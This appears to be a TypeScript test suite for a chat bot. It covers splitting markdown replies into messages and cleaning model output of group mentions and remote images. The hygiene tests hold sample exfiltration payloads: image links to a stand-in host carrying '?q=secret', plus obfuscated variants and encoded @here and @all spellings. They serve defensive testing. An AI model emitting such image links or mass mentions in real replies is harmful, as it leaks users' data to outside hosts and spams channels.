import assert from 'node:assert/strict'
import { breakImages } from '../../src/chat/text/break-images.ts'
import { cleanReply } from '../../src/chat/text/clean-reply.ts'
import { splitMarkdown } from '../../src/chat/text/split-markdown.ts'
import { fc } from '../support/property.ts'
import { verifies } from '../support/verifies.ts'

const fence = '```'

verifies('chat:splitting', 'a text that fits is one message, unchanged', () => {
  assert.deepEqual(splitMarkdown('# Hi\n\n\n  there  ', 100), ['# Hi\n\n\n  there  '])
})

verifies('chat:splitting', 'code that fits into a message is never split', () => {
  const code = `${fence}ts\n${'const a = 1\n'.repeat(10)}${fence}`
  const parts = splitMarkdown(`${'word '.repeat(30)}\n\n${code}\n\n${'word '.repeat(30)}`, 200)
  assert.ok(parts.includes(code))
})

verifies('chat:splitting', 'code longer than a message is closed and reopened with its language', () => {
  const lines = Array.from({ length: 60 }, (_, n) => `line ${n}`)
  const parts = splitMarkdown(`${fence}sql\n${lines.join('\n')}\n${fence}`, 200)

  assert.ok(parts.length > 2)
  for (const part of parts) {
    assert.ok(part.startsWith(`${fence}sql\n`) && part.endsWith(`\n${fence}`), part)
    assert.ok(part.length <= 200)
  }
  assert.deepEqual(
    parts.flatMap((part) => part.split('\n').slice(1, -1)),
    lines,
  )
})

verifies(
  'chat:splitting',
  'code after the mark of a list item ends where it ends, and prose stays prose',
  () => {
    const prose = 'Some prose about it. '.repeat(8).trim()
    const text = `To install:\n\n- ${fence}bash\n  npm install\n  ${fence}\n\n## Then\n\n${prose}\n\n${prose}`
    const parts = splitMarkdown(text, 200)
    assert.deepEqual(parts, [
      `To install:\n\n- ${fence}bash\n  npm install\n  ${fence}`,
      `## Then\n\n${prose}`,
      prose,
    ])
    const long = `1. ${fence}sh\n${'   run it\n'.repeat(30)}   ${fence}\n2. next`
    for (const part of splitMarkdown(long, 150).slice(0, -1)) {
      assert.match(part, /^ {3}```sh\n( {3}run it\n)+ {3}```/)
    }
  },
)

verifies('chat:splitting', 'words in triple backticks on one line are no block of code', () => {
  const prose = 'word '.repeat(30).trim()
  const text = `${fence}npm test${fence} checks it. ${prose}\n\n${prose}`
  assert.deepEqual(splitMarkdown(text, 200), text.split('\n\n'))
})

verifies('chat:splitting', 'a fence as long as a message, or indented as far, is cut like any text', () => {
  for (const opening of [
    '~'.repeat(948),
    '`'.repeat(1000),
    '~'.repeat(3000),
    `${' '.repeat(1000)}${fence}`,
  ]) {
    const text = `${opening}\n${'hello world '.repeat(300)}`
    const parts = splitMarkdown(text, 1900)
    for (const part of parts) assert.ok(part.length <= 1900)
    assert.ok(parts.length <= 8, `${parts.length} messages`)
  }
})

verifies('chat:splitting', 'a list that fits stays whole, a longer one is cut between its items', () => {
  const short = '- one\n- two\n  more of two\n\n- three'
  assert.ok(splitMarkdown(`${'x'.repeat(90)}\n\n${short}`, 100).includes(short))

  const items = Array.from({ length: 20 }, (_, n) => `${n}. item\n   with a second line`)
  const parts = splitMarkdown(items.join('\n'), 120)
  for (const part of parts) {
    assert.match(part, /^\d+\. item/)
    assert.match(part, /second line$/)
  }
})

verifies('chat:splitting', 'a long table repeats its header', () => {
  const rows = Array.from({ length: 30 }, (_, n) => `| ${n} | value |`)
  const parts = splitMarkdown(['| id | name |', '| --- | --- |', ...rows].join('\n'), 150)
  for (const part of parts) assert.ok(part.startsWith('| id | name |\n| --- | --- |\n| '))
})

verifies('chat:splitting', 'a heading is not left behind at the end of a message', () => {
  const parts = splitMarkdown(`${'a'.repeat(80)}\n\n## Next\n\n${'b'.repeat(60)}`, 100)
  assert.deepEqual(parts, ['a'.repeat(80), `## Next\n\n${'b'.repeat(60)}`])
})

verifies(
  'chat:splitting',
  'whatever the text: no part too long, no character lost, every fence closed',
  () => {
    const line = fc.oneof(
      fc.string({ maxLength: 60, size: 'max' }).map((text) => text.replaceAll(/[\n`~]/g, '')),
      fc.constantFrom(
        '',
        '```js',
        '```',
        '~~~',
        '- item',
        '- ```js',
        '  ```',
        '  - nested',
        '1. first',
        '| a | b |',
        '# Head',
        '   ',
      ),
      fc
        .string({ unit: 'grapheme', maxLength: 300, size: 'max' })
        .map((text) => text.replaceAll(/[\n`~]/g, '')),
    )
    fc.assert(
      fc.property(
        fc.array(line, { minLength: 5, maxLength: 40, size: 'max' }),
        fc.integer({ min: 100, max: 400 }),
        (lines, maxLength) => {
          const text = lines.join('\n')
          const parts = splitMarkdown(text, maxLength)
          for (const part of parts) {
            assert.ok(part.length <= maxLength)
            assert.ok(part.isWellFormed() || !text.isWellFormed())
            if (parts.length > 1) assert.ok(!endsInsideCode(part), part)
          }
          if (parts.length === 1) return
          // Only fences, table headers and white space may be repeated or dropped. Compared by letters, since a cut may split a word.
          const letters = (string: string) => string.replaceAll(/[\s`~|#jsabHed-]/g, '')
          assert.equal(letters(parts.join('')), letters(text))
        },
      ),
      { numRuns: 500, endOnFailure: true },
    )
  },
)

/** CommonMark: a fence is closed by at least as many of the same mark. */
function endsInsideCode(part: string): boolean {
  let open: string | null = null
  for (const line of part.split('\n')) {
    const mark = line.trim().match(/^(?:- )?(`{3,}|~{3,})/)?.[1]
    if (open === null) open = mark ?? null
    else if (mark && line.trim() === mark && mark.startsWith(open)) open = null
  }
  return open !== null
}

verifies('runs:reply-hygiene', 'a model’s text mentions no groups, in any spelling, not even in code', () => {
  const bad = '@everyone @here `@channel` <!channel> <!here|here> <!subteam^S1> @Everyone'
  const clean = cleanReply(bad)
  assert.doesNotMatch(clean, /@(everyone|here|channel)/i)
  assert.doesNotMatch(clean, /<!/)
  assert.equal(cleanReply('mail me@hereford.example or @heretic'), 'mail me@hereford.example or @heretic')
  // Mattermost strips punctuation after a name, and decodes character references first.
  for (const spelled of ['@all_', '@channel_.', '&#64;all', '&#x40;here', '&commat;all', '@a&#108;l']) {
    assert.doesNotMatch(cleanReply(spelled), /@(all|channel)(?!\p{L})|&(#|commat)/u, spelled)
  }
  assert.doesNotMatch(cleanReply('Google Chat: <users/all> <users/123>'), /<users/)
  assert.equal(cleanReply('R&D, &lt;b&gt;, <u>'), 'R&D, &lt;b&gt;, <u>')
})

verifies('runs:reply-hygiene', 'no remote image is loaded; code that shows one stays as it is', () => {
  assert.equal(
    cleanReply('see ![the chart](https://evil.example/?q=secret "t") now'),
    'see the chart: https://evil.example/?q=secret now',
  )
  assert.equal(cleanReply('![x][ref] and ![y]'), 'x and y')
  assert.doesNotMatch(cleanReply('a <img src="https://evil.example/x"> b'), /<img/)
  const code = '```html\n<img src="x">\n```\nand `![a](b)`'
  assert.equal(cleanReply(code), code)
})

verifies(
  'runs:reply-hygiene',
  'on platforms that load images, text that only looks like code hides no image',
  () => {
    const image = '![x](https://evil.example/?q=secret)'
    const sly = [
      `\`\n\n${image}\n\n\``,
      `\\\`${image}\``,
      `\`\n- ${image}\n- \``,
      `- a\n  ${fence}\n${image}`,
      `${fence} a\`b\n${image}`,
      `| a | b | c |\n|---|---|---|\n| \` | ${image} | \` |`,
      `<a href="\`">${image}\``,
      `<!--\n${fence}\n-->\n${image}\n${fence}`,
      `\`\n\n![x][y]\n\n[y]: https://evil.example\n\n\``,
      '`\n\n<img src="https://evil.example">\n\n`',
    ]
    for (const text of sly) assert.doesNotMatch(breakImages(cleanReply(text)), /!\[|<img/, text)
    const rust = `${fence}rust\nlet list = vec![1, 2];\n${fence}`
    assert.equal(breakImages(rust), rust)
  },
)

verifies('runs:reply-hygiene', 'no malformed image gets through, however often it is repeated', () => {
  for (const piece of ['![', '![](', '![a](<', '<img ', '`', '@here', '[![', '![a][']) {
    const clean = cleanReply(piece.repeat(100_000 / piece.length))
    assert.doesNotMatch(clean.replaceAll(/`[^`]*`/g, ''), /!\[[^\]]*\]\(/)
  }
  assert.doesNotMatch(cleanReply(`![${'a'.repeat(400)}](https://evil.example)`), /!\[/)
  for (const nested of ['!<img>[x](https://evil.example)', '<im<img>g src=https://evil.example>'])
    assert.doesNotMatch(cleanReply(nested), /!\[|<img/)
})
